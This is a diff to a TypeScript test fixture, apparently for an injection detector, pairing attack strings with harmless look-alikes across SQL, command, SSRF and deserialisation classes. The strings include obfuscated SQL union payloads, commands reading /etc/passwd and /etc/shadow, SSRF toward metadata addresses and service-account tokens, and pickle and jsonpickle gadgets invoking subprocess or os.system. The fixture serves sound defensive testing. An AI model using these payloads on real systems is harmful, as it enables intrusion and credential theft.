@@ -13,6 +13,10 @@ interface Pair {
 
 const PAIRS: Readonly<Record<InjectionClass, readonly Pair[]>> = {
   sql: [
+    { floor: 'possible', attack: '5 and 3 > (select floor(rand(0)*2))', harmless: 'a number from floor (rand) to 2' },
+    { floor: 'possible', attack: ') as pins from', harmless: 'kept (for now) as pins from the wall' },
+    { floor: 'possible', attack: "execute immediate 'x'", harmless: 'execute immediately' },
+    { floor: 'possible', attack: '( cos ( binary ( 7 ) ) ) --', harmless: 'two (or three) -- not more' },
     { floor: 'possible', attack: "7' un/**/ion sel/**/ect login, pin fr/**/om members -- ", harmless: 'see docs/**/union/**/select.md' },
     { floor: 'possible', attack: 'select~3.pin from`members`', harmless: 'selected 3 pins from members' },
     { floor: 'likely', attack: "q=7'%23abc%0aunion%23def%0aselect 1,2,3 -- ", harmless: 'see "#abc" and "#def"' },
@@ -48,6 +52,11 @@ const PAIRS: Readonly<Record<InjectionClass, readonly Pair[]>> = {
     { floor: 'possible', attack: '{"role":{"$regex":"^adm"}}', harmless: '{"role":{"regex":"adm"}}' },
   ],
   command: [
+    { floor: 'possible', attack: 'for /l %%q in (1,1,9) do echo %%q', harmless: 'for 5 % in (all) do they pay' },
+    { floor: 'possible', attack: 'if not exist "pins.txt" echo none', harmless: 'fails if not existing in echo mode' },
+    { floor: 'possible', attack: 'if %pins% gtr 9 goto out', harmless: 'if 5 % are greater, go out' },
+    { floor: 'possible', attack: 'posix_getegid()', harmless: 'posix_getegid is not there' },
+    { floor: 'possible', attack: '/?q=$_[3]($x)', harmless: '/?q=$30 (each)' },
     { floor: 'possible', attack: ';c$@at$IFS/et$uc/pas$1swd', harmless: 'costs $5; cat food $9' },
     { floor: 'possible', attack: ';w\'h\'o"am"i', harmless: "it's; O'Hara's" },
     { floor: 'possible', attack: '{cat,/etc/shadow}', harmless: '{cat, dog, bird}' },
@@ -97,6 +106,9 @@ const PAIRS: Readonly<Record<InjectionClass, readonly Pair[]>> = {
     { floor: 'possible', attack: '${sys:java.version}', harmless: '${system.version}' },
   ],
   ssrf: [
+    { floor: 'possible', attack: 'http://169.254.169.254.pins.example/', harmless: 'http://16.example/' },
+    { floor: 'possible', attack: 'http://pins.example#@10.1.2.3/', harmless: 'http://pins.example/#@bob' },
+    { floor: 'possible', attack: 'file:///var/run/secrets/x/token', harmless: 'file:///var/task/run/secrets.js' },
     { floor: 'possible', attack: 'http://127.0.0.1@shop.example/', harmless: 'https://ada@shop.example/' },
     { floor: 'likely', attack: '/read?src=file:///var/task/app.js', harmless: 'at handler (file:///var/task/app.js:12:3)' },
     { floor: 'possible', attack: '/fetch?url=//127.1:9001/2018-06-01/', harmless: '/fetch?url=//cdn.example.com/a.js' },
@@ -127,6 +139,12 @@ const PAIRS: Readonly<Record<InjectionClass, readonly Pair[]>> = {
     { floor: 'possible', attack: '/index.php?root_path=http://203.0.113.9/s.txt?', harmless: '/index.php?page=3&lang=en' },
   ],
   deserialisation: [
+    { floor: 'certain', attack: 'csubprocess\nPopen\n(S', harmless: 'csubtotal\nTotal' },
+    { floor: 'likely', attack: '{"py/reduce":[{"py/type":"os.system"},{"py/tuple":["id"]}]}', harmless: '{"py":"reduce"}' },
+    { floor: 'possible', attack: 'v=Tzo4OiJQaW5Ib2xlIjoxOnt9', harmless: 'v=Tzone08iJQaW5Ib2xl' },
+    { floor: 'likely', attack: '{"json_class":"Gem::Requirement"}', harmless: '{"class":"Gemstone"}' },
+    { floor: 'possible', attack: '["net.pins.PinSource",{"url":"ldap://x"}]', harmless: '["net.pins.PinSource","net.pins.PinSink"]' },
+    { floor: 'certain', attack: '\\x80\\x04\\x95\\x1f', harmless: '\\x80 is not ASCII' },
     {
       floor: 'possible',
       attack: 'state=gASVHAAAAAAAAACMBXBvc2l4',
